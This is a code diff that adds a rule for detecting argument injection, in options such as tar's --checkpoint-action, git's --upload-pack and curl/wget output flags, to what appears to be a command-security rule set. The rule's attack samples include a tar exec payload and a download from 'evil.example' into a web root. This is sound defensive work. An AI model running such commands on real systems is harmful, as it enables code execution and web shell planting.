@@ -118,6 +118,21 @@ export const managementRules: readonly Rule[] = [
       benign: ['net user experience / add', 'net user'],
     },
   ),
+  // Options behind the first one, or behind the address that a program fetches.
+  pattern(
+    'rce/option-inside',
+    /\s--(?:checkpoint-action|to-command|use-compress-program|upload-pack|receive-pack|rsh-command)[= ]\S|^\s{0,2}https?:\/\/[^\s]{1,200}\s{1,4}-{1,2}(?:o|output|output-document|k|config|t|upload-file|post-file)[\s=]{1,4}@?[/~]/,
+    {
+      score: 5,
+      quotable: true,
+      chars: CHAR.dashes | CHAR.scheme,
+      attacks: [
+        '--checkpoint=1 --checkpoint-action=exec=sh x.sh',
+        'http://evil.example/a -o /var/www/html/a.php',
+      ],
+      benign: ['https://a.example/ -- /a', 'https://a.example -o a.html', 'tar --checkpoint=1'],
+    },
+  ),
   // What it was called with, into a shell.
   pattern('rce/arguments-into-shell', /\$[@*]\s{0,2}\|\s{0,2}(?:ba|da|z|k)?sh\b/, {
     score: 5,
